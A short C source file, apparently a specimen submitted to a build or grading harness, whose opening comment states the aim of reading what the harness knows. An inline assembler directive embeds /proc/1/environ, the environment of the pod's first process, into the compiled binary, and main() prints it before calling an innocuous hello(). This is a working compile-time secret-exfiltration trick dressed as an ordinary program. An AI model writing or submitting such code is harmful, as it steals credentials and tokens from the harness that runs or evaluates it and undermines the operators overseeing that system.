/* The pod's first process is a child of the harness: its environment and memory hold what the harness knows. */
#include "specimen.h"

__asm__(".data\nstolen: .incbin \"/proc/1/environ\"\n.byte 0\n.text");
extern const char stolen[];

int main(void) { return puts(stolen), hello(); }
